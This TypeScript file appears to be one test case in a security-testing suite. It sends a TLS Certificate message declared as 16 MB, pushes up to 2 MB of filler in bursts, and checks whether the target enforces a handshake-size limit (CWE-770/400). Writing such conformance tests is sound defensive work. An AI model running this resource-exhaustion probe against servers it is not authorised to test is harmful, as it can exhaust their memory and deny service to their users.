import { ContentType, HandshakeType } from "../../../dtls/wire/registry.ts";
import { broken, gatewayAttack, held } from "../../attack.ts";
import { NotDelivered } from "../../errors.ts";

const megabytes = 2;
const piece = 2 ** 14;
const pieces = 16;

export default gatewayAttack({
  id: "G-CERT-20b",
  title: "a Certificate message of 16 MB, the first two of them sent",
  transports: ["tls"],
  defeats: "handshake-size-unbounded",
  severity: "medium",
  reference: {
    rfc: ["RFC 8446 §4.4.2", "RFC 5246 §7.4.2"],
    cwe: [770, 400],
    en303645: ["5.13-1"],
    cra: ["I(2)(h)"],
  },
  async run(lab) {
    const end = await lab.tls();
    const failed = await end.hello();
    if (failed !== undefined)
      throw new NotDelivered(`the target did not come to the certificate: ${failed.how}`);
    const header = Uint8Array.of(HandshakeType.certificate, 0xff, 0xff, 0xff);
    const send = (fragment: Uint8Array) =>
      end.replace({ kind: "record", contentType: ContentType.handshake, fragment });
    const sendPiece = () => send(new Uint8Array(piece).fill(HandshakeType.certificate));
    send(header);
    sendPiece();
    // A target that goes by the length answers now, and what is sent to one that has closed would drown its alert.
    let next = await end.receive(Math.min(100, lab.patience.silenceMs));
    let sent = piece;
    for (; next.kind === "silence" && sent < megabytes * 2 ** 20; sent += pieces * piece) {
      // In bursts: who waits for each of them waits longer than some leave a message.
      for (let burst = 0; burst < pieces; burst += 1) sendPiece();
      next = await end.receive(1);
    }
    if (next.kind === "silence") next = await end.receive(lab.patience.silenceMs);
    if (next.kind === "alert" || next.kind === "closed") {
      const how = next.kind === "alert" ? `alert ${next.alert}` : next.how;
      const alert = next.kind === "alert" ? next.alert : undefined;
      return held(`${how}, after ${sent} bytes of it`, { refusedAt: "Certificate", alert });
    }
    return broken(`${megabytes} MB of a message were taken from somebody who has proved nothing`);
  },
});
